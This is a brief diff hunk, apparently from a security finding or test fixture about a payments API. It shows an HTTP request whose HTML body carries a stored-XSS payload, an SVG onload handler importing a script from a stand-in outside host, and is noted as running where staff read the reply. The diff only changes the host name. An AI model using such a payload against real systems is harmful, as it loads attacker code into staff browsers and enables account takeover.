@@ -36,7 +36,7 @@ Host: api.meridianpay.example
 Authorization: Bearer <user of mer_test_a>
 Content-Type: application/json
 
-{"html":"<p>See attached.</p>{-<svg/onload=\\"import('https://il-probe.example/p.js')\\">-}"} {#1}
+{"html":"<p>See attached.</p>{-<svg/onload=\\"import('https://probe.example/p.js')\\">-}"} {#1}
 `,
       ['runs where staff read the reply'],
     ),
